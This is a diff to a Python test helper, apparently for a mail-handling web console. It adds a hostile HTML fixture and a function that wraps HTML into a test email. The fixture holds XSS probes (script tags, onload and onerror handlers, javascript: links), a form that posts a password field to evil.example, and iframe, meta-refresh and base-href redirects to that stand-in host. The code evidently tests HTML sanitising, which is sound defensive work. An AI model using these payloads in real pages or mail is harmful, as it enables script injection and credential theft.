@@ -6,6 +6,7 @@ from collections.abc import Iterator, Mapping
 from contextlib import contextmanager
 from dataclasses import dataclass, field
 from datetime import datetime, timedelta
+from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
 
@@ -23,6 +24,16 @@ from intake.web.server import Console
 
 ADA, BO = "ada@desk.example", "bo@desk.example"
 PASSWORD = "four words in a row"
+HOSTILE = """
+<html><head><style>body{display:none}</style><script>alert(1)</script></head>
+<body onload="alert(2)"><p style="position:fixed">Hello <b>you</b></p>
+<img src="https://tracker.example/pixel.gif" onerror="alert(3)" alt="a picture">
+<a href="javascript:alert(4)">one</a> <a href="https://shop.example/">two</a>
+<form action="https://evil.example/"><input name="password"></form>
+<iframe src="https://evil.example/"></iframe><svg onload="alert(5)"></svg>
+<object data="x"></object><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="//evil.example">
+</body></html>
+"""
 VERSION = re.compile(r'name="version" value="(\d+)"')
 ENTRIES = re.compile(r'name="entries" value="(\d+)"')
 
@@ -130,3 +141,14 @@ def desk(folder: Path, changes: Mapping[str, Any] | None = None, more: str = "")
             for client in made.clients:
                 client.close()
             made.console.close()
+
+
+def formatted_mail(html: str) -> bytes:
+    """A mail with the form as text, and this HTML beside it."""
+    made = EmailMessage()
+    made["From"], made["To"] = "Kim <kim@hosting.example>", "open-xchange@support.example"
+    made["Subject"], made["Message-ID"] = "A formatted mail", "<html@hosting.example>"
+    made["Date"] = "Mon, 23 Nov 2026 09:00:00 +0000"
+    made.set_content(FORM)
+    made.add_alternative(html, subtype="html")
+    return made.as_bytes().replace(b"\n", b"\r\n")
